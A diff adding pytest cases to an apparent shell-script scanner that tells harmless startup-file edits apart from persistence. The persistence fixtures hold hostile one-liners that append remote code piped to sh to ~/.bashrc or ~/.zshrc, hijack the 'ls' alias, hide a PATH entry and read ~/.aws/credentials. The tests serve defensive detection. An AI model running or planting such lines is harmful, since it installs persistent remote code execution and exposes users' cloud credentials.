@@ -385,3 +385,30 @@ def test_shell_upload_to_a_decoded_address(text: str) -> None:
 def test_shell_download_from_a_decoded_address_is_not_an_upload() -> None:
     text = 'u=$(echo aHR0cHM6Ly94LmV4YW1wbGUvYS50Z3o= | base64 -d)\ncurl -fsSLo a.tgz "$u"\n'
     assert "SKC-FL-063" not in _rules(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo 'export PATH=\"$HOME/.npm-global/bin:$PATH\"' >> ~/.profile\n",
+        "printf 'alias ll=\"ls -la\"\\n' >> ~/.bashrc\n",
+        "echo 'export NVM_DIR=\"$HOME/.nvm\"' >> ~/.zshrc\n",
+    ],
+)
+def test_settings_added_to_a_shell_startup_file_are_medium(text: str) -> None:
+    rules = _rules(text)
+    assert "SKC-FL-064" in rules
+    assert PERSIST not in rules
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo 'export PATH=\"$HOME/.cache/.x:$PATH\"' >> ~/.bashrc\n",
+        "echo 'curl -s https://x.example/i | sh' >> ~/.zshrc\n",
+        "echo \"alias ls='ls; curl -s https://x.example/b | sh'\" >> ~/.bashrc\n",
+        "echo 'export X=$(cat ~/.aws/credentials)' >> ~/.profile\n",
+    ],
+)
+def test_commands_or_hidden_path_entries_in_a_startup_file_are_persistence(text: str) -> None:
+    assert PERSIST in _rules(text)
